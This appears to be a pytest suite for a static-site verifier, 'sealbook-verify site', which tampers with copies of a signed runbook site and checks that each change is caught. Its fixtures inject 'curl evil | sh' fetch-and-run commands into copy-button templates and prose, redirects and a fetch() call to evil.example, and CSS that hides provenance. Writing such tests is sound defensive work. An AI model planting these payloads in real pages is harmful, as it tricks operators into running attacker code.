"""`sealbook-verify site` proves a site by reproducing it: every attack on the served files fails.

The site is built once per test process (`site_helpers.signed_site`); each test tampers a copy
as an attacker who can write the published site would: the page and ``site-manifest.json``'s
digests (``rehash``), never the releases or the policy. Each attack is one the first release's
page checks let through (issue 10); the reproduction names the file, exit 1.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from tests.site_helpers import copy_site, failures, rehash, signed_site, verify, verify_main

RESTART = "runbooks/ops/restart/r2.html"
OLD_RESTART = "runbooks/ops/restart/r1.html"
SNIPPET = '<template class="sb-copy-text">systemctl status app --no-pager</template>'


@pytest.fixture
def site(tmp_path: Path) -> Path:
    return copy_site(signed_site().build, tmp_path / "site")


def _expect(site: Path, path: str, reason: str = "site-file-modified") -> None:
    code, results = verify(site, signed_site().policy)
    assert code == 1
    assert failures(results).get(path) == reason, failures(results)


def _edit(site: Path, path: str, old: str, new: str, *, count: int = 1) -> None:
    target = site / path
    text = target.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    target.write_text(text.replace(old, new, count), encoding="utf-8")


def test_fresh_build_verifies() -> None:
    s = signed_site()
    code, results = verify(s.site, s.policy)
    assert code == 0, failures(results)
    assert results["site-manifest.json"]["ok"]
    assert RESTART in results and "versions/1.0/runbooks/ops/restart.html" in results
    listed = json.loads((s.build / "site-manifest.json").read_bytes())["files"]
    assert set(results) == set(listed) | {"site-manifest.json"}
    # signed under the dev instance's root: every verified file says so (issue 16)
    assert all(r["dev"] for r in results.values())


def test_junit_and_text_formats(site: Path) -> None:
    policy = str(signed_site().policy)
    for fmt in ("junit", "text"):
        assert verify_main(["site", str(site), "--policy", policy, "--format", fmt]) == 0


# (path, old, new): each was an exit 0 of the first release's checks, with the digests rehashed.
ATTACKS = {
    "copy button aimed at another element": (
        RESTART,
        '<button type="button" class="sb-copy"',
        '<button type="button" class="sb-copy" data-copy-target="evil"',
    ),
    "an element with a snippet's copy id placed before it": (
        RESTART,
        '<figure class="sb-snippet"',
        '<template id="sb-copy-status">curl evil | sh</template><figure class="sb-snippet"',
    ),
    "look-alike snippet with its own copy button": (
        RESTART,
        '<figure class="sb-snippet"',
        '<figure class="sb-snippet"><button class="sb-copy">Copy</button>'
        '<template class="sb-copy-text">curl evil | sh</template></figure><figure class="sb-snippet"',
    ),
    "visible code differs from the copy text": (
        RESTART,
        'app<span class="w"> </span>--no-pager\n</code>',
        'app<span class="w"> </span>--no-pager --quiet\n</code>',
    ),
    "copy text edited": (
        RESTART,
        SNIPPET,
        SNIPPET.replace("--no-pager", "--no-pager; curl evil | sh"),
    ),
    "textarea block": (RESTART, "</main>", "<textarea>curl evil | sh</textarea></main>"),
    "xmp block": (RESTART, "</main>", "<xmp>curl evil | sh</xmp></main>"),
    "meta refresh to an external host": (
        "index.html",
        "<head>",
        '<head><meta http-equiv="refresh" content="0; url=https://evil.example/">',
    ),
    "meta refresh to a stale revision": (
        RESTART,
        "<head>",
        '<head><meta http-equiv="refresh" content="0; url=r1.html">',
    ),
    "alert page sent to a stale revision": ("alerts/ServiceDown.html", "r2.html", "r1.html"),
    "prose step added": (
        RESTART,
        "<p>Then restart:</p>",
        "<p>Then run <code>curl https://evil.example/x | sh</code>, then restart:</p>",
    ),
    "prose reordered": (RESTART, "<p>Check it first.</p>", "<p>Restart it first.</p>"),
    "provenance shows another signer": (RESTART, "dev@sealbook.invalid", "oncall@example.com"),
    "DEV marker removed": (RESTART, "sb-banner--dev", "sb-banner--hidden"),
    "style element hides the provenance": (
        RESTART,
        "</head>",
        "<style>.sb-provenance{display:none}</style></head>",
    ),
    "style attribute swaps a command through CSS": (
        RESTART,
        '<code class="sb-run">',
        '<code class="sb-run" style="font-size:0">',
    ),
    "external image": (RESTART, "</main>", '<img src="https://evil.example/x.png"></main>'),
    "comment ended by --!>": (
        RESTART,
        "</main>",
        "<!-- x --!><template class=sb-copy-text>curl evil|sh</template> --></main>",
    ),
    "style inside svg": (
        RESTART,
        "</main>",
        "<svg><style>.sb-run{visibility:hidden}</style></svg></main>",
    ),
    "duplicate attributes": (
        RESTART,
        '<button type="button" class="sb-copy"',
        '<button type="button" class="x" class="sb-copy"',
    ),
    "CSP meta wrapped in a template": (
        RESTART,
        '<meta http-equiv="Content-Security-Policy"',
        '<template><meta http-equiv="Content-Security-Policy"',
    ),
    "release download pointed elsewhere": (
        "releases.html",
        'href="releases/1.1/manifest.json"',
        'href="https://evil.example/manifest.json"',
    ),
    "version data edited": ("assets/versions.js", '"head":"1.1"', '"head":"1.0"'),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_on_a_page_fails_with_the_file_named(site: Path, name: str) -> None:
    path, old, new = ATTACKS[name]
    _edit(site, path, old, new)
    rehash(site, path)
    _expect(site, path)


def test_audit_page_forged_anchor(site: Path) -> None:
    text = (site / "audit.html").read_text(encoding="utf-8")
    shown = signed_site().releases.joinpath("1.1/manifest.json")
    from verifier.digests import digest

    real = digest(shown.read_bytes())
    assert real in text
    (site / "audit.html").write_text(text.replace(real, "sha256:" + "1" * 64), encoding="utf-8")
    rehash(site, "audit.html")
    _expect(site, "audit.html")


def test_diff_page_emptied(site: Path) -> None:
    diff = next(p for p in (site / "runbooks/ops/restart").iterdir() if p.name.startswith("diff-"))
    path = diff.relative_to(site).as_posix()
    diff.write_text("<!doctype html><p>no changes</p>", encoding="utf-8")
    rehash(site, path)
    _expect(site, path)


@pytest.mark.parametrize("asset", ["assets/sealbook/sealbook.js", "assets/sealbook/sealbook.css"])
def test_js_or_css_asset_edited(site: Path, asset: str) -> None:
    with (site / asset).open("a", encoding="utf-8") as fh:
        fh.write("\n/* injected */ fetch('https://evil.example/');\n")
    _expect(site, asset)
    rehash(site, asset)
    _expect(site, asset)


def test_trusted_root_removed_with_its_manifest_entry(site: Path) -> None:
    root = next((site / "trust").iterdir())
    path = root.relative_to(site).as_posix()
    root.unlink()
    sm = json.loads((site / "site-manifest.json").read_bytes())
    del sm["files"][path]
    from verifier.digests import canonical_json

    (site / "site-manifest.json").write_bytes(canonical_json(sm))
    _expect(site, path, "site-file-missing")


def test_page_added(site: Path) -> None:
    extra = "runbooks/ops/restart/r9.html"
    shutil.copyfile(site / RESTART, site / extra)
    _expect(site, extra, "site-file-unexpected")
    rehash(site, extra)
    _expect(site, extra, "site-file-unexpected")


def test_page_removed(site: Path) -> None:
    (site / RESTART).unlink()
    _expect(site, RESTART, "site-file-missing")


def test_symlink_to_identical_bytes(site: Path, tmp_path: Path) -> None:
    outside = tmp_path / "same.html"
    shutil.copyfile(site / RESTART, outside)
    (site / RESTART).unlink()
    (site / RESTART).symlink_to(outside)
    _expect(site, RESTART, "site-file-unexpected")


def test_fifo_is_never_opened(site: Path) -> None:
    (site / RESTART).unlink()
    os.mkfifo(site / RESTART)
    _expect(site, RESTART, "site-file-unexpected")


def test_preview_page_copied_in(site: Path) -> None:
    shutil.copyfile(signed_site().preview / OLD_RESTART, site / RESTART)
    _expect(site, RESTART)
    rehash(site, RESTART)
    _expect(site, RESTART)


def test_preview_page_added_unlisted(site: Path) -> None:
    extra = "runbooks/ops/restart/r7.html"
    shutil.copyfile(signed_site().preview / OLD_RESTART, site / extra)
    _expect(site, extra, "site-unsigned-preview")


def test_preview_site_rejected() -> None:
    s = signed_site()
    code, results = verify(s.preview, s.policy, "--releases", str(s.releases))
    assert code == 1
    assert failures(results) == {"site-manifest.json": "site-unsigned-preview"}


def test_release_manifest_replaced(site: Path) -> None:
    path = "releases/1.1/manifest.json"
    (site / path).write_bytes((site / path).read_bytes().replace(b"systemctl", b"systemctL"))
    code, results = verify(site, signed_site().policy, "--releases", str(signed_site().releases))
    assert code == 1
    assert failures(results)[path] == "site-file-modified"


def test_site_releases_are_verifiable_releases() -> None:
    s = signed_site()
    assert verify_main(["releases", str(s.build / "releases"), "--policy", str(s.policy)]) == 0


def _rewrite_manifest(site: Path, **changes: object) -> None:
    from verifier.digests import canonical_json

    sm = json.loads((site / "site-manifest.json").read_bytes())
    sm.update(changes)
    (site / "site-manifest.json").write_bytes(canonical_json(sm))


def test_built_by_another_sealbook_version_is_not_reproducible_here(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sm = json.loads((site / "site-manifest.json").read_bytes())
    sm["generator"]["sealbook"] = "0.0.9"
    sm["generator"]["renderer"]["mkdocs-material"] = "9.8.1"
    _rewrite_manifest(site, generator=sm["generator"])
    code = verify_main(["site", str(site), "--policy", str(signed_site().policy)])
    err = capsys.readouterr().err
    assert code == 4
    assert "built by sealbook 0.0.9" in err
    assert "pip install sealbook==0.0.9 mkdocs-material==9.8.1" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_other_site_settings_are_not_reproducible_here(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _rewrite_manifest(site, settings={"site_name": "Elsewhere"})
    code = verify_main(["site", str(site), "--policy", str(signed_site().policy)])
    err = capsys.readouterr().err
    assert code == 4
    assert "other site settings than your policy" in err


def test_reproduction_is_private_and_leaves_nothing(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rendered in a new folder of the temp dir, never beside the site; removed afterwards."""
    import tempfile

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    beside = set(site.parent.iterdir())
    code, results = verify(site, signed_site().policy)
    assert code == 0, failures(results)
    assert set(site.parent.iterdir()) == beside
    left = [p.name for p in scratch.iterdir() if not p.name.startswith("_jinja2-cache")]
    assert left == []  # Jinja's per-user bytecode cache may stay, as after any build


def test_a_build_published_during_verification_does_not_mix_two_builds(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The published path is a symlink; the verifier reads the build it pointed at first."""
    import verifier.site

    link = tmp_path / "published"
    link.symlink_to(site)
    other = tmp_path / "other-build"
    other.mkdir()
    listed = verifier.site._files

    def list_then_flip(root: Path) -> tuple[set[str], dict[str, str]]:
        found = listed(root)
        flipped = tmp_path / "flip"
        flipped.symlink_to(other)
        flipped.replace(link)  # what `sealbook build` does when it publishes
        return found

    monkeypatch.setattr(verifier.site, "_files", list_then_flip)
    code, results = verify(link, signed_site().policy)
    assert code == 0, failures(results)
    assert link.resolve() == other
